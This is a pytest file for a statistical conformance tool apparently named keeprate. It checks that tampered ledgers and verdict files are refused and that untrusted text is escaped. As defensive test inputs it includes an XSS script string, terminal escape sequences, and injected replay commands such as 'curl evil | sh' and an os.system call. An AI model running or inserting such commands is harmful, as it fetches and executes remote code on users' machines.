"""Files that somebody else made: a ledger or a verdict that is no such thing is refused in one sentence."""

import json
import re
import shutil
import sqlite3
from pathlib import Path

import pytest

from keeprate.harness.commands.recomputed import recomputed
from keeprate.harness.evidence.check import passed
from keeprate.harness.evidence.tally import Tally
from keeprate.harness.judging.request import ask
from keeprate.harness.ledger.encoding import pack
from keeprate.harness.ledger.schema import VERSION
from keeprate.harness.ledger.standing import note_night, standing
from keeprate.harness.ledger.store import Ledger
from keeprate.harness.protocol.backend import Offer
from keeprate.harness.protocol.engine import Result
from keeprate.harness.workers.machine import described

HERE = Path(__file__).parent
COIN, COINS = str(HERE / "coin.py"), str(HERE / "coins.py")
OFFER = Offer("<script>alert(1)</script>", "1", "thumb", ("float32",), ("spin", "toss"))
SCRIPT = "<script>alert(1)</script>"


@pytest.fixture(scope="session")
def sound(tmp_path_factory):
    """A ledger of one run over every case of a coin, and the verdict of a gate."""
    folder = tmp_path_factory.mktemp("sound")
    request = ask(f"{COINS}:Fair", suite=COIN, profile="quick")
    with Ledger(folder / "night.db", create=True) as ledger:
        run = ledger.begin(request, (OFFER, None), described(), kind="nightly", workers=1)
        for case in request.suite.cases("quick"):
            fair, lands = case.findings
            p = case.parameters["p"]
            tally = Tally(("heads", "tails"), (round(1000 * p), 1000 - round(1000 * p)), (p, 1 - p))
            ledger.add(run, Result("backend", case.id, {fair: tally, lands: passed(1000)}), 1.0)
        verdict = standing(
            request.given(OFFER),
            ledger,
            run.subjects,
            {"seconds": 1.0, "workers": 1, "host": "h", "started": "2026-01-01T00:00:00Z"},
        ).verdict
        note_night(ledger, run, verdict)
    (folder / "v.json").write_text(verdict.to_json(), encoding="utf-8")
    return folder


@pytest.fixture
def bad(sound, tmp_path):
    """A copy of the sound ledger, changed by SQL that no ledger allows."""

    def change(*statements, parameters=()):
        path = tmp_path / "bad.db"
        shutil.copy(sound / "night.db", path)
        with sqlite3.connect(path) as db:
            db.execute("PRAGMA ignore_check_constraints = ON")
            db.execute("PRAGMA writable_schema = ON")
            for statement in statements:
                db.execute(statement, parameters)
        db.close()
        return path

    return change


def assert_refused(run, *words):
    assert run.code == 2, run.out + run.err
    assert "Traceback" not in run.err
    for word in words:
        assert word in " ".join(run.err.split())


def test_the_sound_one_is_taken(command, sound, tmp_path):
    for options in (["--ledger", sound / "night.db", "--suite", COIN], ["--json", sound / "v.json"]):
        assert command("report", *options, "--out", tmp_path / "out").code == 0


REPORTED = [
    (
        ["CREATE TRIGGER t AFTER INSERT ON run BEGIN DELETE FROM run; END"],
        ["not the schema of a ledger", "trigger 't'"],
    ),
    (["CREATE VIEW v AS SELECT 1"], ["not the schema of a ledger", "view 'v'"]),
    (["CREATE TABLE more (x)"], ["not the schema of a ledger", "table 'more'"]),
    (["DROP TABLE picture"], ["not the schema of a ledger", "table 'picture'"]),
    (
        ["UPDATE sqlite_master SET sql = replace(sql, 'CHECK (seeds > 0)', '') WHERE name = 'run'"],
        ["not the schema", "'run'"],
    ),
    (
        [f"PRAGMA user_version = {VERSION + 1}"],
        [f"schema {VERSION + 1} is newer than this keeprate reads"],
    ),
    (["PRAGMA user_version = 0"], ["not a keeprate ledger. Nothing was changed"]),
    (["PRAGMA user_version = -1"], ["not a keeprate ledger. Nothing was changed"]),
    (["PRAGMA application_id = 7"], ["not a keeprate ledger. Nothing was changed"]),
    (["UPDATE run SET seeds = -5"], ["the ledger is damaged", "run"]),
    (["UPDATE run SET draws = -1"], ["the ledger is damaged", "run"]),
    (["UPDATE run SET draws = 9000000000000000000"], ["the ledger is damaged", "run"]),
    (["UPDATE run SET seconds = 9e999"], ["the ledger is damaged", "run"]),
    (["UPDATE run SET night = '<script>'"], ["the ledger is damaged", "run"]),
    (["UPDATE night SET status = 'fine'"], ["the ledger is damaged", "night"]),
    (["UPDATE night SET log10_e = 9e999"], ["the ledger is damaged", "night"]),
    (["UPDATE night SET night = '<script>'"], ["the ledger is damaged", "night"]),
    (["UPDATE run SET alpha = 2"], ["the ledger is damaged", "run"]),
    (["UPDATE look SET promise = 999 WHERE id = 1"], ["the ledger is damaged", "a row of look belongs to no promise"]),
    (["UPDATE look SET total = NULL"], ["the ledger is damaged", "look"]),
    (["UPDATE look SET total = x'00'"], ["is not evidence", "cut off"]),
    (["UPDATE form SET text = '{}' || id"], ["is not evidence"]),
    (["UPDATE subject SET offer = '{\"name\": 7}'"], ["the record of what a backend offers can't be read"]),
    (["UPDATE subject SET offer = '[]'"], ["the record of what a backend offers can't be read"]),
    (["UPDATE subject SET suite = './evil.py'"], ["its evidence is from suite './evil.py', not '", "--suite"]),
    (["DELETE FROM recent", "DELETE FROM code", "DELETE FROM run"], ["nothing was ever judged"]),
]


@pytest.mark.parametrize(("statements", "words"), REPORTED, ids=[" ".join(words) for _, words in REPORTED])
def test_a_ledger_that_is_none_is_refused(command, bad, tmp_path, statements, words):
    path = bad(*statements)
    before = path.read_bytes()
    assert_refused(command("report", "--ledger", path, "--suite", COIN, "--out", tmp_path / "out"), *words)
    assert path.read_bytes() == before


@pytest.mark.parametrize(
    "counts",
    [[[-1, 3]], [[2**63, 0]], [[1e300, 1]], [[None, 1]], "x", [[1, 2], [3, 4]]],
    ids=lambda value: str(value)[:20],
)
def test_counts_that_can_not_be_are_refused(command, bad, tmp_path, counts):
    path = bad("UPDATE look SET total = ?", parameters=(pack({"counts": counts}),))
    assert_refused(command("report", "--ledger", path, "--suite", COIN, "--out", tmp_path / "out"), "is not evidence")


STRANGE = [
    # Of one finding in two cases, in one of which other cells are counted.
    "UPDATE look SET form = :form, total = :total WHERE id = (SELECT min(look.id) FROM look JOIN promise ON "
    "promise.id = promise WHERE finding = 'toss/lands/float32/-/-/eager')",
    # Of a promise that counts something else.
    "UPDATE promise SET digest = '00000000000000000000000000000000' WHERE finding = 'toss/lands/float32/-/-/eager'",
]


@pytest.mark.parametrize("statement", STRANGE)
def test_evidence_of_another_law_is_not_used(command, bad, tmp_path, statement, verdict):
    path = bad()
    with sqlite3.connect(path) as db:
        form, total = db.execute(
            "SELECT form, total FROM look JOIN form ON form.id = form WHERE text LIKE '%tally%'"
        ).fetchone()
    db.close()
    changed = bad(statement, parameters={"form": form, "total": total})
    assert command("report", "--ledger", changed, "--suite", COIN, "--out", tmp_path / "out").code == 0
    told = verdict(tmp_path / "out" / "report.json")
    assert told["ledger"]["counted_otherwise"] == 1
    assert told["ledger"]["waiting"] == {"toss/lands": 1}
    assert {finding["law"] for finding in told["findings"] if finding["op"] == "toss"} == {"fair"}


@pytest.mark.parametrize(
    "text",
    [
        "{}",
        "[]",
        "[" * 5000,
        '{"case": "x", "width": 64, "backend": ["<script>"], "reference": []}',
        '{"case": "x", "width": 1e9, "backend": [], "reference": []}',
        '{"case": "x", "width": 4, "backend": ["ff"], "reference": []}',
        '{"case": 7, "width": 4, "backend": ["f"], "reference": []}',
        json.dumps({"case": "x", "width": 4, "backend": ["f"] * 99, "reference": []}),
    ],
)
def test_a_picture_that_is_none_is_refused(command, bad, tmp_path, text):
    path = bad("INSERT INTO picture VALUES (1, ?)", parameters=(text,))
    run = command("report", "--ledger", path, "--suite", COIN, "--out", tmp_path / "out")
    assert_refused(run, "bad.db: a picture in it can't be read")


@pytest.mark.parametrize("keep", [0, 10, 100, 5000, -4096])
def test_a_ledger_that_was_cut_off_is_refused(command, sound, tmp_path, keep):
    path = tmp_path / "cut.db"
    path.write_bytes((sound / "night.db").read_bytes()[:keep])
    for words in (
        ["report", "--ledger", path, "--out", tmp_path / "out"],
        ["merge", path, "--into", tmp_path / "c.db"],
    ):
        assert_refused(command(*words), "cut.db")


def test_a_ledger_that_would_fill_the_memory_is_refused(command, bad, tmp_path):
    path = bad()
    with path.open("r+b") as file:  # as many pages as two gigabytes have, all of them holes
        size = int.from_bytes(file.read(18)[16:], "big")
        file.seek(28)
        file.write((2**31 // size).to_bytes(4, "big"))
        file.truncate(2**31)
    run = command("report", "--ledger", path, "--suite", COIN, "--out", tmp_path / "out")
    assert_refused(run, "bad.db: larger than any ledger (1,024 MiB). Nothing was changed")


def test_a_database_of_someone_else_is_not_written_to(command, tmp_path, coin, coins):
    path = tmp_path / "theirs.db"
    with sqlite3.connect(path) as db:
        db.execute("CREATE TABLE theirs (x)")
    db.close()
    before = path.read_bytes()
    gate = ["--backend", f"{coins}:Fair", "--suite", coin, "--profile", "quick", "--ledger", path]
    assert_refused(command("gate", *gate), "not a keeprate ledger. Nothing was changed")
    assert_refused(command("nightly", *gate), "not a keeprate ledger. Nothing was changed")
    assert path.read_bytes() == before


def test_names_in_a_ledger_are_text_on_the_page(command, bad, tmp_path):
    path = bad("UPDATE run SET host = ?", parameters=(SCRIPT,))
    run = command("report", "--ledger", path, "--suite", COIN, "--out", tmp_path / "out")
    assert run.code == 0, run.err
    page, markdown = ((tmp_path / "out" / name).read_text(encoding="utf-8") for name in ("index.html", "report.md"))
    assert SCRIPT not in page and "&lt;script&gt;" in page
    assert "<script>" not in markdown and r"\<script\>" in markdown


@pytest.fixture
def verdict_file(sound, tmp_path):
    """The verdict of a gate, with a key changed; a path like `findings.0.n`."""

    def write(where, value):
        data = json.loads((sound / "v.json").read_text(encoding="utf-8"))
        *path, last = where.split(".")
        place = data
        for key in path:
            place = place[int(key) if key.isdigit() else key]
        place[last] = value
        (tmp_path / "v.json").write_text(json.dumps(data), encoding="utf-8")
        return tmp_path / "v.json"

    return write


@pytest.mark.parametrize(
    ("where", "value"),
    [
        ("schema", 2),
        ("verdict", "fine"),
        ("alpha", 0),
        ("alpha", float("nan")),
        ("findings.0.n", -1),
        ("findings.0.n", 10**400),
        ("findings.0.n", 1.5),
        ("findings.0.estimate", float("inf")),
        ("findings.0.p_value", 2),
        ("findings.0.interval", [0.5]),
        ("findings.0.interval", [None, None]),
        ("findings.0.id", f"toss/fair/float32/{SCRIPT}/-/eager"),
        ("findings.0.id", "fair"),
        ("findings.0.status", SCRIPT),
        ("findings.0.more", 1),
        ("findings", {}),
        ("ledger", {}),
        ("backend", SCRIPT),
        ("findings.0.estimate", 1e308),
        ("findings.0.interval", [-1e308, 1e308]),
        ("findings.0.expected", -1e308),
        ("findings.0.detectable", 1e308),
        ("findings.0.log10_e", 1e16),
        ("laws.$\\frac$", {"promise": "a", "catches": ["b"], "blind_to": ["c"], "source": "d"}),
        ("pictures", {"toss/fair/float32/p0.5/-/eager": {}}),
        ("pictures", {SCRIPT: {"case": "", "width": 4, "backend": ["f"], "reference": []}}),
        ("resembles", [{"likeness": 2, "kind": "a", "says": "b", "defect": "", "laws": []}]),
        ("causes", [{"id": "a", "kind": "b", "sentence": "", "seen": "", "explains": [], "picture": []}]),
        ("faults", {SCRIPT: 1}),
    ],
)
def test_a_verdict_that_is_none_is_refused(command, verdict_file, tmp_path, where, value):
    path = verdict_file(where, value)
    assert_refused(command("report", "--json", path, "--out", tmp_path / "out"), "v.json: not")
    assert_refused(command("report", "--json", path, "--against", path, "--out", tmp_path / "out"), "v.json: not")


NIGHT = {"night": "2026-01-01", "part": 0.5}
NIGHTS = [NIGHT, {"night": "2026-01-02", "part": 0.6}]


@pytest.fixture
def told(command, sound, tmp_path):
    """The public JSON of the sound ledger, whose laws by night are others; the path of the file."""
    assert command("report", "--ledger", sound / "night.db", "--suite", COIN, "--out", tmp_path / "told").code == 0

    def write(laws):
        data = json.loads((tmp_path / "told" / "report.json").read_text(encoding="utf-8"))
        data["ledger"]["laws"] = laws
        (tmp_path / "v.json").write_text(json.dumps(data), encoding="utf-8")
        return tmp_path / "v.json"

    return write


@pytest.mark.parametrize(
    "laws", [{"a": NIGHTS, "b": []}, {"$\\frac$": NIGHTS}, {f"law_{n}": NIGHTS for n in range(201)}]
)
def test_laws_by_night_that_are_none_are_refused(command, told, tmp_path, laws):
    assert_refused(command("report", "--json", told(laws), "--out", tmp_path / "out"), "v.json: not a verdict")


def test_laws_by_night_may_differ_in_their_nights(command, told, tmp_path):
    run = command("report", "--json", told({"a": NIGHTS, "b": [NIGHT], "c": NIGHTS[1:]}), "--out", tmp_path / "out")
    assert run.code == 0, run.err


@pytest.mark.parametrize("text", ["", "{", "[]", "[" * 100_000, '{"schema": 1e999}', "null"])
def test_a_file_that_is_no_verdict_is_refused(command, tmp_path, text):
    (tmp_path / "v.json").write_bytes(text.encode("latin-1"))
    assert_refused(command("report", "--json", tmp_path / "v.json", "--out", tmp_path / "out"), "v.json: not")


@pytest.mark.parametrize(
    ("where", "value"),
    [
        ("backend.name", SCRIPT),
        ("environment.platform", SCRIPT),
        ("laws.fair.promise", SCRIPT),
        ("findings.0.replay", SCRIPT),
        ("findings.0.estimate", 1e100),
        ("findings.0.interval", [1e100, -1e100]),
        ("findings.0.log10_e", -1e15),
        ("findings.0.threshold_log10_e", 1000),
        ("findings.0.n", 10**18),
    ],
)
def test_what_a_verdict_may_say_is_harmless(command, verdict_file, tmp_path, where, value):
    run = command("report", "--json", verdict_file(where, value), "--out", tmp_path / "out")
    assert run.code == 0, run.err
    pages = [(tmp_path / "out" / name).read_text(encoding="utf-8") for name in ("index.html", "report.md")]
    assert all(SCRIPT not in page for page in pages)


FAIR = "toss/fair/float32/p0.5/-/eager"
LANDS = "toss/lands/float32/-/-/eager"


def test_a_verdict_that_cites_a_failing_reference_is_none(verdict_file):
    data = json.loads(verdict_file("reference.failures", [SCRIPT]).read_text(encoding="utf-8"))
    with pytest.raises(ValueError, match="it says 'conforms' where its findings say 'none'"):
        recomputed(data)
    told = recomputed({**data, "verdict": "none"})
    assert told["sentence"] == "No verdict: the reference failed."


def changed(data, **by_path):
    """A verdict with other values; a path like `findings__0__n`."""
    data = json.loads(json.dumps(data))
    for where, value in by_path.items():
        *path, last = where.split("__")
        place = data
        for key in path:
            place = place[int(key) if key.isdigit() else key]
        place[last] = value
    return data


@pytest.fixture(scope="session")
def conforms(sound):
    """The verdict on a fair coin; its first finding is statistical, its second exact."""
    data = json.loads((sound / "v.json").read_text(encoding="utf-8"))
    assert [finding["id"] for finding in data["findings"]][:2] == [FAIR, LANDS]
    assert recomputed(data) == data
    return data


@pytest.fixture(scope="session")
def broken(conforms):
    """The same with a fair coin that is not, and a cause for it."""
    cause = {"id": "bent", "kind": "rate", "sentence": "It is bent.", "seen": "", "explains": [FAIR], "picture": []}
    found = {"findings__0__status": "broken", "findings__0__log10_e": 300.0, "findings__0__rank": 1}
    told = {"verdict": "broken", "leads": [FAIR], "causes": [cause], "findings__0__explained_by": "bent"}
    data = changed(conforms, **found, **told)
    assert recomputed(data)["sentence"] == "<script>alert(1)</script> keeps 5 of 6 promises."
    told = recomputed({**data, "left_out": ["the law lands"]})["sentence"]
    assert told == "<script>alert(1)</script> keeps 5 of 6 promises. Left out, as asked: the law lands."
    return data


@pytest.mark.parametrize(
    ("change", "says"),
    [
        ({"verdict": "broken"}, "it says 'broken' where its findings say 'conforms'"),
        ({"verdict": "none"}, "it says 'none' where its findings say 'conforms'"),
        ({"findings__0__log10_e": 300.0}, f"{FAIR}: it is kept, with evidence of 300 where"),
        ({"findings__0__status": "broken"}, f"{FAIR}: it is broken, with evidence of"),
        ({"findings__0__threshold_log10_e": 2.0}, "its threshold is 2, below what an error budget of 1e-06 allows"),
        ({f"findings__{n}__threshold_log10_e": 6.1 for n in (0, 2)}, "its thresholds spend"),
        ({"findings__1__status": "broken"}, f"{LANDS}: it is broken, with 0 of"),
        ({"findings__1__detail__wrong": 7}, f"{LANDS}: it is kept, with 7 of"),
        ({"findings__1__detail__checked": 0}, f"{LANDS}: it is kept, with 0 of 0 wrong"),
        ({"findings__4__id": LANDS}, "toss/lands/float32/-/-/eager is there twice"),
        ({"findings__0__op": "spin"}, f"{FAIR}: its 'op' is another than its id says"),
        ({"findings__0__law": "fair:2"}, "its 'law' is another"),
        ({"findings__0__dtype": "float16"}, "its 'dtype' is another"),
        ({"findings__0__context": "compile"}, "its 'context' is another"),
        ({"findings__0__parameters": {"p": 0.25}}, "its 'parameters' is another"),
        ({"findings__0__parameters": None}, "its 'parameters' is another"),
        ({"findings__0__strides": "step2"}, "its 'strides' is another"),
        ({"findings__0__shape": [2, 3]}, "its 'shape' is another"),
        ({"findings__0__rank": 1}, "the ranks of its findings are not those of what failed"),
        ({"leads": [FAIR]}, "'leads' are not the first findings of the laws that failed"),
        ({"findings__0__explained_by": "bent"}, "its cause is another than the one that explains it"),
        ({"watched": ["toss/nothing/-/-/-/-"]}, "'watched' names toss/nothing/-/-/-/-, which it has no finding of"),
        ({"mended": ["toss/nothing/-/-/-/-"]}, "'mended' names"),
        ({"run": {"error": "no such thing"}}, "its run could not begin, and has findings"),
    ],
    ids=lambda value: ",".join(value)[:60] if isinstance(value, dict) else "",
)
def test_a_verdict_that_contradicts_itself_is_refused(conforms, change, says):
    with pytest.raises(ValueError, match=re.escape(says)):
        recomputed(changed(conforms, **change))


@pytest.mark.parametrize(
    ("change", "says"),
    [
        ({"verdict": "conforms"}, "it says 'conforms' where its findings say 'broken'"),
        ({"findings__0__rank": None}, "the ranks of its findings"),
        ({"findings__0__rank": 2}, "the ranks of its findings"),
        ({"findings__2__rank": 2}, "the ranks of its findings"),
        ({"leads": []}, "'leads' are not"),
        ({"causes__0__explains": [LANDS]}, f"cause bent explains {LANDS}, which did not fail"),
        ({"causes": []}, f"{FAIR}: its cause is another"),
        ({"findings__0__explained_by": None}, f"{FAIR}: its cause is another"),
    ],
    ids=lambda value: ",".join(value) if isinstance(value, dict) else "",
)
def test_a_broken_verdict_that_contradicts_itself_is_refused(broken, change, says):
    with pytest.raises(ValueError, match=re.escape(says)):
        recomputed(changed(broken, **change))


def test_a_verdict_that_lies_is_refused_by_the_command(command, broken, tmp_path):
    (tmp_path / "v.json").write_text(json.dumps({**broken, "verdict": "conforms"}), encoding="utf-8")
    run = command("report", "--json", tmp_path / "v.json", "--out", tmp_path / "out")
    assert_refused(run, "v.json: not a verdict of keeprate: it says 'conforms' where its findings say 'broken'")


def test_what_follows_from_findings_is_told_anew(broken):
    told = recomputed(changed(broken, sentence="All is well.", watched=[LANDS], mended=[FAIR]))
    assert (told["sentence"], told["watched"], told["mended"]) == (recomputed(broken)["sentence"], [], [])


USUAL = f"keeprate replay {FAIR} --backend"


@pytest.mark.parametrize(
    ("line", "built"),
    [
        ("keeprate replay x --backend mine.py; curl evil | sh", f"{USUAL} 'mine.py;'"),
        ("curl evil | sh", f"{USUAL} '{SCRIPT}'"),
        ("keeprate replay x --backend 'mine.py; curl evil | sh'", f"{USUAL} 'mine.py; curl evil | sh'"),
        ("keeprate replay x --backend '$(curl evil)'", f"{USUAL} '$(curl evil)'"),
        ("keeprate replay x --backend 'never closed", f"{USUAL} '{SCRIPT}'"),
        ("keeprate replay x --backend --help", f"{USUAL} '{SCRIPT}'"),
        ("keeprate replay x --backend mine.py --seed 1 --profile smoke --alpha 1 --out /etc", f"{USUAL} mine.py"),
    ],
)
def test_the_line_that_runs_a_finding_again_is_built_here(conforms, line, built):
    told = recomputed(changed(conforms, findings__0__replay=line))["findings"][0]["replay"]
    assert told == f"{built} --seed {conforms['seed']} --profile quick"


def test_of_a_line_the_options_are_kept_that_a_run_depends_on(conforms):
    options = "--dtypes float16,float32 --suite ./mine.py --case-timeout 7.5 --memory 4G"
    line = f"{USUAL} mine.py --seed {conforms['seed']} --profile quick {options}"
    assert recomputed(changed(conforms, findings__0__replay=line))["findings"][0]["replay"] == line
    worse = line.replace("7.5", "7.5;").replace("4G", "$(x)").replace("float16,", "a;b,")
    told = recomputed(changed(conforms, findings__0__replay=worse))["findings"][0]["replay"]
    assert told == f"{USUAL} mine.py --seed {conforms['seed']} --profile quick --suite ./mine.py"


def test_of_an_object_it_is_a_line_of_python(conforms):
    data = changed(conforms, backend__isolated=False, findings__0__replay="__import__('os').system('curl evil')")
    told = recomputed(data)["findings"][0]["replay"]
    assert told == f"keeprate.judge(backend, seed={conforms['seed']}, profile='quick')"


ESCAPES = "\x1b]0;evil\x07\x1b[2J\u202e"
SHOWN = "\\x1b]0;evil\\x07\\x1b[2J\\u202e"


def test_what_a_terminal_obeys_is_escaped_in_every_text_of_a_verdict(command, broken, tmp_path):
    change = {"backend__name": ESCAPES, "backend__version": ESCAPES, "environment__platform": ESCAPES}
    data = changed(broken, **change, causes__0__sentence=ESCAPES, run__host=ESCAPES, run__studies={ESCAPES: 1.0})
    (tmp_path / "v.json").write_text(json.dumps(data), encoding="utf-8")
    assert command("report", "--json", tmp_path / "v.json", "--out", tmp_path / "out").code == 0
    told = json.loads((tmp_path / "out" / "report.json").read_text(encoding="utf-8"))
    assert told["backend"]["name"] == told["run"]["host"] == SHOWN
    assert [*told["run"]["studies"]] == [SHOWN]
    for path in (tmp_path / "out").iterdir():
        assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202e]", path.read_text(encoding="utf-8")), path.name
        assert "\\u001b" not in path.read_text(encoding="utf-8")


def test_what_a_terminal_obeys_is_escaped_in_every_text_of_a_ledger(command, bad, tmp_path):
    path = bad("UPDATE run SET host = ?1, cpu = ?1, named = ?1", parameters=(ESCAPES,))
    assert command("report", "--ledger", path, "--suite", COIN, "--out", tmp_path / "out").code == 0
    text = (tmp_path / "out" / "report.json").read_text(encoding="utf-8")
    assert json.loads(text)["run"]["host"] == SHOWN
    assert "\\u001b" not in text and "\\u202e" not in text.replace("\\\\u202e", "")


def test_a_ledger_does_not_choose_which_list_of_known_deviations_is_read(command, bad, tmp_path):
    adapter = tmp_path / "ours.py"
    adapter.write_text("", encoding="utf-8")
    adapter.with_suffix(".known").write_text("spin/*  # ours\n", encoding="utf-8")
    path = bad("UPDATE run SET named = ?", parameters=(str(adapter),))
    told = [
        command("report", "--ledger", path, "--suite", COIN, "--out", tmp_path / "out", *more)
        and json.loads((tmp_path / "out" / "report.json").read_text(encoding="utf-8"))
        for more in ([], ["--backend", SCRIPT], ["--backend", adapter])
    ]
    assert [{finding["known"] for finding in one["findings"]} for one in told] == [{None}, {None}, {"ours", None}]
    assert ["known" in one["run"] for one in told] == [False, False, True]
